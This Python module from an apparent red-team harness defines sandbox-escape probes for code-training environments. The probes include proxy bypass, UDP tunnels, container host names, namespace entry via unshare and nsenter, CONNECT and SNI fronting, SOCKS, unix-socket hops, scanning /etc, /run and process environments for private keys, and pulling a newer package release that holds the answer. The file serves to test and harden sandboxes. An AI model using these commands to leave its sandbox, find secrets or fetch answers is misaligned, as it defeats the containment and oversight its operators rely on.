"""Ways out of the sandbox: each asks for the answer at a service of the host that would tell it."""

from __future__ import annotations

from codegym.redteam.attack import Finding, Inapplicable, attack
from codegym.redteam.baits import bait_ports
from codegym.redteam.play import PROBE, Play

E2B = "E2B documentation: Host on 80, SNI on 443, UDP unfiltered"
FIREWALL = "gh-aw-firewall#8878, #137: CONNECT and SNI fronting, CONNECT to an address"
CONTAINER = "claude-code#36907, apache/maka#3009: names, resolvers and hosts of containers"
SRT = "Aonan Guan: names that two parsers read in two ways"
CONFUSION = "agentcage#214, vm0#14412: the Host of a request is not the tunnel's"
RELAY = "claude-code#87381: a relayed CONNECT"
SSRF = "verifiers#2024, OpenAI ExploitGym post-mortem, 26 August 2026: the proxy as a way inside"
DSEC = "DSec, section 6.4: a mirror asked for the newer package"


async def reach(play: Play, mode: str) -> Finding:
    """Whatever answers must not be the bait."""
    ports = " ".join(map(str, bait_ports(play.victim.marker)))
    return await play.leak(f"{await play.lay('reach')} {mode} {ports} | {PROBE} stdin")


@attack("direct-connection", "online", "A client that takes no notice of the proxy", E2B)
async def direct(play: Play) -> Finding:
    """In both families, and as the one within the other."""
    return await reach(play, "direct")


@attack("datagrams", "online", "UDP goes where TCP may not: DNS tunnels, QUIC", E2B)
async def datagrams(play: Play) -> Finding:
    """What answers would."""
    return await reach(play, "datagram")


@attack("names-of-the-host", "online", "Names that container engines give the host", CONTAINER)
async def names(play: Play) -> Finding:
    """Each is looked up and connected to."""
    return await reach(play, "names")


@attack("interfaces-and-routes", "online", "An interface or a route that is not loopback",
        CONTAINER)  # fmt: skip
async def interfaces(play: Play) -> Finding:
    """As the kernel lists them."""
    asked = "grep -vE '^ *lo:|\\|' /proc/net/dev; tail -n +2 /proc/net/route"
    asked += "; grep -v ' lo$' /proc/net/if_inet6 /proc/net/ipv6_route; echo END"
    said = (await play.bash(asked)).output.strip().splitlines()
    if said[-1:] != ["END"]:
        return Finding("refused", "there is no /proc/net to read")
    if said[:-1]:
        return Finding("succeeded", "; ".join(said[:3]))
    return Finding("impossible", "loopback, and no route")


@attack("network-of-its-own", "online", "Another network namespace has other rules", CONTAINER)
async def namespace(play: Play) -> Finding:
    """As root of a user namespace, if the kernel lets it."""
    ports = " ".join(map(str, bait_ports(play.victim.marker)))
    command = f"{await play.lay('reach')} direct {ports}"
    ways = ("unshare -Urn", "nsenter -t 1 -n", "setpriv --clear-groups", "chroot / ")
    tried = "; ".join(f"{way} {command}" for way in ways)
    return await play.leak(f"({tried}) 2>/dev/null | {PROBE} stdin")


@attack("tunnel-to-an-address", "online", "CONNECT to an address, in every notation", FIREWALL)
async def tunnel(play: Play) -> Finding:
    """Decimal, octal, hexadecimal, short, within IPv6, with what parsers drop."""
    return await reach(play, "tunnel")


@attack("plain-request", "online", "An absolute address, or a Host, without a tunnel", SRT)
async def plain(play: Play) -> Finding:
    """The proxy would have to connect by itself."""
    return await reach(play, "plain")


@attack("tunnel-in-a-tunnel", "online", "CONNECT within what was allowed", RELAY)
async def nested(play: Play) -> Finding:
    """Plain bytes in a tunnel to who is allowed."""
    return await reach(play, "nested")


@attack("fronting", "online", "Another name in TLS or Host than in CONNECT", CONFUSION)
async def fronting(play: Play) -> Finding:
    """Or two of them, or a folded one, or none."""
    return await reach(play, "fronted")


@attack("socks", "online", "SOCKS spoken to the proxy's port", SSRF)
async def socks(play: Play) -> Finding:
    """Versions 4 and 5."""
    return await reach(play, "socks")


@attack("sockets-as-ways", "online", "A unix socket leads to another episode's way, or a daemon",
        SSRF)  # fmt: skip
async def unix(play: Play) -> Finding:
    """While another episode runs, every socket that there is is asked for a tunnel."""
    await play.another()
    return await reach(play, "unix")


@attack("authority-key", "online", "The key that certificates are signed with lies in the sandbox",
        SSRF)  # fmt: skip
async def key(play: Play) -> Finding:
    """In files of the way out, or in a process's environment or memory."""
    needles = (b"-----BEGIN PRIVATE KEY", b"-----BEGIN EC PRIVATE KEY")
    places = f"{PROBE} files /run /etc /tmp /home; {PROBE} proc environ; env | {PROBE} stdin"
    return await play.leak(places, needles)


@attack("newer-release", "online", "The index has a release with the answer in it", DSEC)
async def newer(play: Play) -> Finding:
    """By pip, by name, pinned, from links, and from the API; only where pip is configured."""
    if "END" not in (await play.bash('[ -n "$PIP_INDEX_URL" ] && echo END')).output:
        raise Inapplicable("the network policy lets no index be asked")
    name = play.victim.environment.name
    pip = "python -m pip --disable-pip-version-check download --no-deps -d /tmp/got"
    wanted = (name, f"'{name}>0'", f"--pre {name}", f"--no-binary :all: {name}")
    asked = "; ".join(f"{pip} {each}" for each in wanted)
    pages = f"{await play.lay('pages')} {name}"
    return await play.leak(
        f"({asked}) >/dev/null 2>&1; {PROBE} files /tmp/got; {pages} | {PROBE} stdin"
    )
